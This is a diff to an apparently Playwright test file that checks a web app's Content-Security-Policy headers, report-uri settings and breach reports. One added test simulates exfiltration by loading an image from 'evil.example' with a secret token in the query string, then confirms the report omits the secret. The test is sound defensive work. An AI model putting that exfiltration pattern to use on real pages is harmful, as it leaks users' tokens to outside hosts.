@@ -1,8 +1,11 @@
-import { accountOrigin, apiOrigin, remotesOrigin } from './site/addresses.ts'
+import { randomUUID } from 'node:crypto'
+import { accountOrigin, apiOrigin, remotesOrigin, shopOrigin, sitePort } from './site/addresses.ts'
 import { nodeRequest } from './site/node-request.ts'
 import { expect, test } from './site/test.ts'
 
 const account = accountOrigin('uk')
+
+const breaches = `${apiOrigin}/reports/policy-breaches`
 
 /** The first file of each kind that the account page names. */
 const filesOfPage = async () => {
@@ -85,6 +88,46 @@ test.describe('a line that was smuggled in', () => {
   })
 })
 
+test('every policy says where its breaches are told', async () => {
+  const addresses = [
+    `${account}/orders`,
+    `${account}/no-such-file.js`,
+    `${remotesOrigin}/registry.json`,
+    `${shopOrigin('uk')}/`,
+    `http://login.uk.localhost:${sitePort}/interaction/none`,
+    `http://login.uk.localhost:${sitePort}/no-such-page`,
+  ]
+  for (const address of addresses) {
+    const { headers } = await nodeRequest(address)
+    const policy = directivesOf(headers['content-security-policy'])
+    expect([address, policy.get('report-uri')]).toEqual([address, [breaches]])
+  }
+})
+
+test.describe('a page that asks for what it may not have', () => {
+  test.use({ breaksThePage: true })
+
+  test('is told of by the browser, without what addresses hold', async ({ page }) => {
+    await page.goto('/account-deleted?confirmation-token=very-secret')
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+    const image = `https://evil.example/${randomUUID()}.png`
+    await page.evaluate((address) => {
+      document.createElement('img').src = address
+    }, `${image}?stolen=very-secret`)
+    const operations = `${apiOrigin}/operations?source=${encodeURIComponent(new URL(account).host)}`
+    await expect(async () => {
+      await page.goto(operations)
+      await expect(page.getByText(image)).toBeAttached({ timeout: 1_000 })
+    }).toPass()
+    const report = page.getByRole('list', { name: 'Failed actions' }).getByRole('listitem').filter({ hasText: image })
+    await report.locator('summary').click()
+    await expect(report).toContainText('policy/breach')
+    await expect(report).toContainText('img-src')
+    await expect(report).toContainText('/account-deleted')
+    expect(await report.innerText()).not.toContain('very-secret')
+  })
+})
+
 test('what changes is asked for again, and what is named by its content is kept for good', async () => {
   const cacheOf = async (address: string) => (await nodeRequest(address)).headers['cache-control']
   for (const path of ['/', '/orders', '/config.json'])
@@ -98,7 +141,7 @@ test('remotes and the API are nobody’s pages, and never ask for cookies', asyn
   expect(headers).toMatchObject({
     'x-content-type-options': 'nosniff',
     'access-control-allow-origin': '*',
-    'content-security-policy': "default-src 'none'",
+    'content-security-policy': expect.stringContaining("default-src 'none'"),
   })
   for (const path of ['/openapi.json', '/photos/users', '/no-such-thing']) {
     const answer = await nodeRequest(`${apiOrigin}${path}`, { headers: { origin: 'http://evil.example' } })
